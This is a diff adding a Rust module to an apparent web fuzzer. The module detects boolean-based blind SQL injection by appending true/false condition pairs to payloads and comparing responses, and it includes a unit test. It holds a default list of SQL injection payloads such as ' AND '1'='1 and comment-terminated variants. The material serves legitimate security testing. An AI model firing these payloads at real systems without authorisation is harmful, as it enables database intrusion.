@@ -0,0 +1,134 @@
+//! Boolean-based blind SQL injection: a payload the query picks up answers
+//! differently depending on a condition appended to it
+
+use crate::error::Error::GenericError;
+use crate::error::Result;
+use crate::sender::FuzzResponse;
+use crate::types::{FuzzBooleanSqli, FuzzPayloadEncoding, FuzzRequest};
+use std::future::Future;
+
+/// Extracted value holding the true condition of the pair that showed a
+/// difference
+pub(crate) const BOOLEAN_CONDITION_VALUE: &str = "boolean_condition";
+
+/// Pairs for numeric and quoted values, with and without a comment
+/// swallowing the rest of the query
+const DEFAULT_PAIRS: &[(&str, &str)] = &[
+    (" AND 1=1", " AND 1=2"),
+    ("' AND '1'='1", "' AND '1'='2"),
+    ("\" AND \"1\"=\"1", "\" AND \"1\"=\"2"),
+    (" AND 1=1-- ", " AND 1=2-- "),
+    ("' AND 1=1-- ", "' AND 1=2-- "),
+    (") AND (1=1", ") AND (1=2"),
+    ("') AND ('1'='1", "') AND ('1'='2"),
+];
+
+/// Check that conditions can be appended to the run's payloads
+pub(crate) fn validate_boolean_sqli(config: &FuzzRequest) -> Result<()> {
+    let Some(boolean) = &config.boolean_sqli else {
+        return Ok(());
+    };
+    if config.vhost.is_some() {
+        return Err(GenericError(
+            "Boolean-based SQL injection can't be combined with vhost fuzzing".to_string(),
+        ));
+    }
+    if config.payload_encoding == FuzzPayloadEncoding::Base64 {
+        return Err(GenericError("Conditions can't be appended to base64 payloads".to_string()));
+    }
+    if boolean.pairs.iter().any(|p| p.true_condition == p.false_condition) {
+        return Err(GenericError("The conditions of a pair have to differ".to_string()));
+    }
+    Ok(())
+}
+
+/// What responses to the conditions are told apart by
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct Fingerprint {
+    status: u16,
+    size: usize,
+}
+
+impl Fingerprint {
+    pub(crate) fn of(response: &FuzzResponse) -> Self {
+        Self { status: response.status, size: response.body.len() }
+    }
+
+    pub(crate) fn is_success(&self) -> bool {
+        (200..300).contains(&self.status)
+    }
+
+    pub(crate) fn resembles(&self, other: &Fingerprint, size_tolerance: u32) -> bool {
+        self.status == other.status && self.size.abs_diff(other.size) <= size_tolerance as usize
+    }
+}
+
+fn pairs(boolean: &FuzzBooleanSqli) -> Vec<(String, String)> {
+    if boolean.pairs.is_empty() {
+        return DEFAULT_PAIRS.iter().map(|(t, f)| (t.to_string(), f.to_string())).collect();
+    }
+    boolean.pairs.iter().map(|p| (p.true_condition.clone(), p.false_condition.clone())).collect()
+}
+
+/// Requests sent for each payload when no pair shows a difference
+pub(crate) fn probe_count(boolean: &FuzzBooleanSqli) -> usize {
+    pairs(boolean).len() * 2 * boolean.rounds.max(1) as usize
+}
+
+/// The true condition of the first pair whose responses hold up every round:
+/// the true condition's like `original`, the payload's own response, and the
+/// false condition's isn't. `send` sends the template with a payload.
+pub(crate) async fn find_condition<F, Fut>(
+    boolean: &FuzzBooleanSqli,
+    payload: &str,
+    original: Fingerprint,
+    send: F,
+) -> Option<String>
+where
+    F: Fn(String) -> Fut,
+    Fut: Future<Output = Result<FuzzResponse>>,
+{
+    let tolerance = boolean.size_tolerance;
+    'pairs: for (true_condition, false_condition) in pairs(boolean) {
+        for _ in 0..boolean.rounds.max(1) {
+            let holds = send(format!("{payload}{true_condition}")).await;
+            let fails = send(format!("{payload}{false_condition}")).await;
+            let (Ok(holds), Ok(fails)) = (holds, fails) else {
+                continue 'pairs;
+            };
+            let keeps = original.resembles(&Fingerprint::of(&holds), tolerance);
+            let changes = !original.resembles(&Fingerprint::of(&fails), tolerance);
+            if !keeps || !changes {
+                continue 'pairs;
+            }
+        }
+        return Some(true_condition);
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[tokio::test]
+    async fn finds_the_pair_the_response_follows() {
+        let boolean = FuzzBooleanSqli { rounds: 2, size_tolerance: 5, ..Default::default() };
+        let original = Fingerprint { status: 200, size: 100 };
+
+        // A quoted value: a false condition empties the listing, anything
+        // else leaves it, give or take a timestamp
+        let vulnerable = |payload: String| async move {
+            let size = if payload.ends_with("'1'='2") { 10 } else { 103 };
+            Ok(FuzzResponse { status: 200, body: vec![b'x'; size], ..Default::default() })
+        };
+        let condition = find_condition(&boolean, "1", original, vulnerable).await;
+        assert_eq!(condition.as_deref(), Some("' AND '1'='1"));
+
+        let unaffected = |_: String| async move {
+            Ok(FuzzResponse { status: 200, body: vec![b'x'; 100], ..Default::default() })
+        };
+        assert_eq!(find_condition(&boolean, "1", original, unaffected).await, None);
+        assert_eq!(probe_count(&boolean), DEFAULT_PAIRS.len() * 4);
+    }
+}